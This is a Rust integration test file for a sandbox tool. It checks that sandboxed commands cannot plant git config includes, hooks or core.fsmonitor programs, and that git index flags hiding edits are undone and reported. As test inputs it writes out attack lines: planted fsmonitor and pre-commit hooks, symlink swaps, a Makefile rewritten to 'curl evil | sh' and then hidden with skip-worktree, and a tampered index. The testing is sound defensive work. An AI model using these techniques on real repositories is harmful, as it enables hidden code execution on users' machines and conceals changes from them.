//! What git reads and runs from config is protected for the whole call, and the index
//! flags a call sets are undone: judged on the host the way a user meets them (their
//! `git status` while the call runs and after it), on both backends.
//!
//! - the files a repository's config includes (`include.path`, `includeIf`, existing or
//!   not), the files the user's global config includes and its `core.hooksPath`, and the
//!   program of `core.fsmonitor`, when inside the project, cannot be written by a call;
//! - `git update-index --skip-worktree` / `--assume-unchanged` of a tracked file, then an
//!   edit of it: after the call the user's `git status` shows the edit and the finish names
//!   the file; flags the user set before are left; ordinary git work is untouched.

mod common;

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::{backends, command, temp_env};
use serde_json::Value;

/// Git as the user runs it on the host (their home, no system config).
fn git(dir: &Path, home: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=u", "-c", "user.email=u@x"])
        .args(args)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env_remove("XDG_CONFIG_HOME")
        .output()
        .unwrap()
}

fn ok(o: &std::process::Output) -> String {
    assert!(
        o.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// A repository at `dir` with `a.txt` and `Makefile` committed.
fn user_repo(dir: &Path, home: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    ok(&git(dir, home, &["init", "-q", "-b", "main"]));
    std::fs::write(dir.join("a.txt"), "a\n").unwrap();
    std::fs::write(dir.join("Makefile"), "all:\n\ttrue\n").unwrap();
    ok(&git(dir, home, &["add", "a.txt", "Makefile"]));
    ok(&git(dir, home, &["commit", "-qm", "a"]));
}

/// The `efr-sandbox run` of `line` in project `proj` on `backend`, its summary to
/// `dir/summary.json`.
fn call(dir: &Path, proj: &Path, backend: &str, line: &str) -> Command {
    let p = proj.to_str().unwrap();
    let mut c = command(dir);
    c.args(["run", "--project", p, "--cwd", p, "--backend", backend])
        .arg("--summary")
        .arg(dir.join("summary.json"))
        .args(["--", line])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    c
}

/// Runs the call to its end: its summary, its stderr.
fn run(dir: &Path, proj: &Path, backend: &str, line: &str) -> (Value, String) {
    let out = call(dir, proj, backend, line).output().unwrap();
    finish(dir, out)
}

fn finish(dir: &Path, out: std::process::Output) -> (Value, String) {
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        out.status.success(),
        "{}\n{err}",
        String::from_utf8_lossy(&out.stdout)
    );
    let v = serde_json::from_slice(&std::fs::read(dir.join("summary.json")).unwrap()).unwrap();
    (v, err)
}

fn strings(v: &Value, key: &str) -> Vec<String> {
    serde_json::from_value(v[key].clone()).unwrap_or_default()
}

/// Waits (at most 60 s) until `p` exists or the call ended.
fn wait_for(p: &Path, child: &mut Child) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !p.exists() {
        assert!(
            child.try_wait().unwrap().is_none(),
            "the call ended before {}",
            p.display()
        );
        assert!(Instant::now() < deadline, "no {}", p.display());
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A shell line that appends a `core.fsmonitor` touching `marker` to each of `files`
/// (relative to the project, parents made), failures ignored.
fn plant(files: &[&str], marker: &Path) -> String {
    files
        .iter()
        .map(|f| {
            format!(
                "mkdir -p \"$(dirname {f})\"; printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> {f};",
                m = marker.display()
            )
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// The included files of `.git/config` (existing, not yet existing, an `includeIf` whose
/// condition is false now) cannot be written while the call runs: the user's `git status`
/// meanwhile runs no planted fsmonitor, the finish reports each refusal, and after the call
/// the files are as they were.
#[test]
fn included_config_files_are_protected_for_the_whole_call() {
    for backend in backends() {
        let d = temp_env();
        let home = d.path().join("home");
        let proj = home.join("p");
        user_repo(&proj, &home);
        let cfg = proj.join(".git/config");
        let mut text = std::fs::read_to_string(&cfg).unwrap();
        text.push_str(
            "[include]\n\tpath = ../.gitconfig-shared\n\tpath = ../.gitconfig-later\n\
             [includeIf \"gitdir:/somewhere/else/\"]\n\tpath = ../conf/when.inc\n",
        );
        std::fs::write(&cfg, &text).unwrap();
        std::fs::write(proj.join(".gitconfig-shared"), "[color]\n\tui = auto\n").unwrap();
        let marker = d.path().join("PWNED");
        let ready = proj.join("ready");
        let targets = [".gitconfig-shared", ".gitconfig-later", "conf/when.inc"];
        let line = format!(
            "{} touch ready; sleep 3; echo done",
            plant(&targets, &marker)
        );
        let mut child = call(d.path(), &proj, backend, &line).spawn().unwrap();
        wait_for(&ready, &mut child);
        // The user's prompt runs git status while the call still runs.
        ok(&git(&proj, &home, &["status", "--short"]));
        assert!(
            !marker.exists(),
            "{backend}: git status ran the planted fsmonitor"
        );
        let (v, _) = finish(d.path(), child.wait_with_output().unwrap());
        let denied = strings(&v, "denied_writes");
        for t in targets {
            let p = proj.join(t).to_string_lossy().into_owned();
            assert!(denied.contains(&p), "{backend}: {p} not in {denied:?}");
        }
        assert_eq!(
            std::fs::read_to_string(proj.join(".gitconfig-shared")).unwrap(),
            "[color]\n\tui = auto\n"
        );
        assert!(!proj.join(".gitconfig-later").exists());
        assert!(!proj.join("conf/when.inc").exists());
        ok(&git(&proj, &home, &["status"]));
        assert!(
            !marker.exists(),
            "{backend}: git status ran the planted fsmonitor"
        );
    }
}

/// An included file whose directory does not exist yet: the call may not put a link (or
/// a directory it filled elsewhere) in that directory's place, which would have the
/// protected name reach a file the call writes; mkdir and the refused write stay as for
/// any protected path.
#[test]
fn a_missing_directory_above_an_included_file_takes_no_link() {
    for backend in backends() {
        let d = temp_env();
        let home = d.path().join("home");
        let proj = home.join("p");
        user_repo(&proj, &home);
        let cfg = proj.join(".git/config");
        let mut text = std::fs::read_to_string(&cfg).unwrap();
        text.push_str("[include]\n\tpath = ../sub/x.inc\n");
        std::fs::write(&cfg, &text).unwrap();
        let marker = d.path().join("PWNED");
        let evil = format!(
            "printf '[core]\\n\\tfsmonitor = touch {}\\n'",
            marker.display()
        );
        let line = format!(
            "mkdir other; {evil} > other/x.inc; ln -s other sub; \
             mkdir filled; {evil} > filled/x.inc; mv filled sub; \
             {evil} > sub/x.inc; touch ready; sleep 2; echo done"
        );
        let mut child = call(d.path(), &proj, backend, &line).spawn().unwrap();
        wait_for(&proj.join("ready"), &mut child);
        ok(&git(&proj, &home, &["status", "--short"]));
        assert!(
            !marker.exists(),
            "{backend}: git status ran the planted fsmonitor"
        );
        let (v, _) = finish(d.path(), child.wait_with_output().unwrap());
        let denied = strings(&v, "denied_writes");
        let sub = proj.join("sub").to_string_lossy().into_owned();
        assert!(denied.contains(&sub), "{backend}: {sub} not in {denied:?}");
        assert!(
            std::fs::symlink_metadata(proj.join("sub")).map_or(true, |m| m.is_dir()),
            "{backend}: a link in the place of sub"
        );
        ok(&git(&proj, &home, &["status"]));
        assert!(
            !marker.exists(),
            "{backend}: git status ran the planted fsmonitor"
        );
    }
}

/// The user's global config includes a file in the project and names a hooks dir in it:
/// neither can be written by a call (git reads them in every repository).
#[test]
fn the_global_config_s_include_and_hooks_path_in_the_project_are_protected() {
    for backend in backends() {
        let d = temp_env();
        let home = d.path().join("home");
        let proj = home.join("p");
        user_repo(&proj, &home);
        std::fs::write(
            home.join(".gitconfig"),
            "[include]\n\tpath = p/.gitglobal-inc\n[core]\n\thooksPath = ~/p/.githooks\n",
        )
        .unwrap();
        let marker = d.path().join("PWNED");
        let line = format!(
            "{} mkdir -p .githooks; printf '#!/bin/sh\\ntouch {m}\\n' > .githooks/pre-commit; \
             chmod +x .githooks/pre-commit; echo done",
            plant(&[".gitglobal-inc"], &marker),
            m = marker.display()
        );
        let (v, _) = run(d.path(), &proj, backend, &line);
        let denied = strings(&v, "denied_writes");
        for t in [".gitglobal-inc", ".githooks/pre-commit"] {
            let p = proj.join(t).to_string_lossy().into_owned();
            assert!(denied.contains(&p), "{backend}: {p} not in {denied:?}");
        }
        assert!(!proj.join(".gitglobal-inc").exists());
        assert!(!proj.join(".githooks/pre-commit").exists());
        std::fs::write(proj.join("a.txt"), "b\n").unwrap();
        ok(&git(&proj, &home, &["commit", "-qam", "b"]));
        assert!(
            !marker.exists(),
            "{backend}: the user's git ran a planted program"
        );
    }
}

/// `core.fsmonitor = ./scripts/fsmon.sh` in a repository that exists at launch: the call
/// cannot rewrite the script git would run; it can still commit, branch and add there.
#[test]
fn the_program_a_config_key_names_cannot_be_rewritten() {
    for backend in backends() {
        let d = temp_env();
        let home = d.path().join("home");
        let proj = home.join("p");
        user_repo(&proj, &home);
        std::fs::create_dir_all(proj.join("scripts")).unwrap();
        // A monitor that answers "everything may have changed" (git then scans).
        let script = "#!/bin/sh\nexit 1\n";
        std::fs::write(proj.join("scripts/fsmon.sh"), script).unwrap();
        let mut perm = std::fs::metadata(proj.join("scripts/fsmon.sh"))
            .unwrap()
            .permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut perm, 0o755);
        std::fs::set_permissions(proj.join("scripts/fsmon.sh"), perm).unwrap();
        ok(&git(
            &proj,
            &home,
            &["config", "core.fsmonitor", "./scripts/fsmon.sh"],
        ));
        let marker = d.path().join("PWNED");
        let line = format!(
            "printf '#!/bin/sh\\ntouch {m}\\nexit 1\\n' > scripts/fsmon.sh; \
             echo more >> a.txt && git add a.txt && git -c user.name=c -c user.email=c@x commit -qm more \
             && git branch side && echo new > b.txt && git add b.txt && echo committed",
            m = marker.display()
        );
        let (v, _) = run(d.path(), &proj, backend, &line);
        let p = proj.join("scripts/fsmon.sh").to_string_lossy().into_owned();
        assert!(strings(&v, "denied_writes").contains(&p), "{backend}: {v}");
        assert_eq!(
            std::fs::read_to_string(proj.join("scripts/fsmon.sh")).unwrap(),
            script
        );
        let log = ok(&git(&proj, &home, &["log", "--format=%s", "side"]));
        assert_eq!(log, "more\na\n", "{backend}");
        let st = ok(&git(&proj, &home, &["status", "--porcelain"]));
        assert_eq!(st, "A  b.txt\n?? scripts/\n", "{backend}");
        assert!(!marker.exists(), "{backend}");
        assert!(
            strings(&v, "index_flags").is_empty() && v.get("index_flags").is_none(),
            "{backend}: {v}"
        );
    }
}

/// The user's `git status --porcelain` in `proj`.
fn status(proj: &Path, home: &Path) -> String {
    ok(&git(proj, home, &["status", "--porcelain"]))
}

/// `git ls-files -v` of `path`: its tag (`H`, `S`, `h`, ...).
fn tag(proj: &Path, home: &Path, path: &str) -> String {
    ok(&git(proj, home, &["ls-files", "-v", "--", path]))
        .split(' ')
        .next()
        .unwrap_or("")
        .to_string()
}

/// A flag set by the call on a tracked file it then edits: after the call the user's `git
/// status` shows the edit, the finish names the file (undone), and `run` says so.
fn flag_case(option: &str, flag: &str) {
    for backend in backends() {
        let d = temp_env();
        let home = d.path().join("home");
        let proj = home.join("p");
        user_repo(&proj, &home);
        // A flag the user set before the call stays.
        std::fs::write(proj.join("local.cfg"), "mine\n").unwrap();
        ok(&git(&proj, &home, &["add", "local.cfg"]));
        ok(&git(&proj, &home, &["commit", "-qm", "cfg"]));
        ok(&git(
            &proj,
            &home,
            &["update-index", "--skip-worktree", "local.cfg"],
        ));
        std::fs::write(proj.join("local.cfg"), "mine, changed\n").unwrap();
        let line = format!(
            "git update-index {option} Makefile && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile \
             && git status --porcelain"
        );
        let out = call(d.path(), &proj, backend, &line).output().unwrap();
        let inside = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            !inside.contains("Makefile"),
            "{backend}: the flag hid nothing: {inside}"
        );
        let (v, err) = finish(d.path(), out);
        assert_eq!(status(&proj, &home), " M Makefile\n", "{backend}");
        let flags = v["index_flags"].as_array().cloned().unwrap_or_default();
        assert_eq!(flags.len(), 1, "{backend}: {v}");
        assert_eq!(flags[0]["path"], "Makefile");
        assert_eq!(flags[0]["flag"], flag);
        assert_eq!(flags[0]["undone"], true);
        assert_eq!(flags[0]["repo"], proj.to_string_lossy().as_ref());
        assert!(
            err.contains("Makefile") && err.contains("taken off again"),
            "{backend}: {err}"
        );
        assert_eq!(tag(&proj, &home, "local.cfg"), "S", "{backend}");
        assert_eq!(tag(&proj, &home, "Makefile"), "H", "{backend}");
    }
}

#[test]
fn skip_worktree_set_by_the_call_is_undone_and_reported() {
    flag_case("--skip-worktree", "skip_worktree");
}

#[test]
fn assume_unchanged_set_by_the_call_is_undone_and_reported() {
    flag_case("--assume-unchanged", "assume_unchanged");
}

/// A repository nested below the project root (the view's walk) is checked too, and a call
/// that leaves the index alone costs no read: nothing is reported.
#[test]
fn a_nested_repository_s_flags_are_undone_too() {
    for backend in backends() {
        let d = temp_env();
        let home = d.path().join("home");
        let proj = home.join("work");
        let inner = proj.join("libs/inner");
        std::fs::create_dir_all(&proj).unwrap();
        user_repo(&inner, &home);
        let (v, _) = run(d.path(), &proj, backend, "cat libs/inner/a.txt");
        assert!(v.get("index_flags").is_none(), "{backend}: {v}");
        let (v, _) = run(
            d.path(),
            &proj,
            backend,
            "cd libs/inner && git update-index --assume-unchanged a.txt && echo x >> a.txt",
        );
        assert_eq!(v["index_flags"][0]["path"], "a.txt", "{backend}: {v}");
        assert_eq!(
            v["index_flags"][0]["repo"],
            inner.to_string_lossy().as_ref()
        );
        assert_eq!(status(&inner, &home), " M a.txt\n", "{backend}");
    }
}

/// An index the call rewrites in place (not by git's lock file and rename) leaves no start
/// to compare with: its flags are all taken as the call's, and the repository is named.
#[test]
fn an_index_rewritten_in_place_is_named_and_its_flags_undone() {
    // The flagged index is made aside, then copied over the index's own inode; then
    // (second line) git replaces that inode by its own rename.
    let lines = [
        "cp .git/index /tmp/i && GIT_INDEX_FILE=/tmp/i git update-index --skip-worktree Makefile \
         && cat /tmp/i > .git/index && echo evil >> Makefile",
        "cp .git/index /tmp/i && GIT_INDEX_FILE=/tmp/i git update-index --skip-worktree Makefile \
         && cat /tmp/i > .git/index && echo evil >> Makefile && git status --porcelain",
    ];
    for (backend, line) in backends().into_iter().flat_map(|b| lines.map(|l| (b, l))) {
        let d = temp_env();
        let home = d.path().join("home");
        let proj = home.join("p");
        user_repo(&proj, &home);
        let (v, _) = run(d.path(), &proj, backend, line);
        let unchecked = strings(&v, "index_unchecked");
        assert!(
            unchecked.len() == 1 && unchecked[0].contains("written in place"),
            "{backend}: {v}"
        );
        assert_eq!(v["index_flags"][0]["path"], "Makefile", "{backend}: {v}");
        assert_eq!(status(&proj, &home), " M Makefile\n", "{backend}");
    }
}

/// A split index (`core.splitIndex`: the entries in a shared index beside it) hides
/// nothing either: made by the call, or the user's own from before.
#[test]
fn a_split_index_s_flags_are_undone_too() {
    for (backend, user_split) in backends().into_iter().flat_map(|b| [(b, false), (b, true)]) {
        let d = temp_env();
        let home = d.path().join("home");
        let proj = home.join("p");
        user_repo(&proj, &home);
        if user_split {
            ok(&git(&proj, &home, &["update-index", "--split-index"]));
        }
        let (v, _) = run(
            d.path(),
            &proj,
            backend,
            "git update-index --split-index && git update-index --skip-worktree Makefile \
             && echo evil >> Makefile",
        );
        assert_eq!(v["index_flags"][0]["path"], "Makefile", "{backend}: {v}");
        assert_eq!(v["index_flags"][0]["undone"], true, "{backend}: {v}");
        assert!(v.get("index_unchecked").is_none(), "{backend}: {v}");
        assert_eq!(
            status(&proj, &home),
            " M Makefile\n",
            "{backend} {user_split}"
        );
    }
}

/// A broken index the call leaves is reported, not a panic or a hang of the finish.
#[test]
fn a_corrupt_index_is_reported_not_a_failure() {
    let d = temp_env();
    let home = d.path().join("home");
    let proj = home.join("p");
    user_repo(&proj, &home);
    let (v, _) = run(
        d.path(),
        &proj,
        "native",
        "head -c 100 /dev/urandom > .git/index.new && mv .git/index.new .git/index",
    );
    let unchecked = strings(&v, "index_unchecked");
    assert_eq!(unchecked.len(), 1, "{v}");
    assert!(unchecked[0].starts_with(&format!("{}: the index", proj.display())));
}
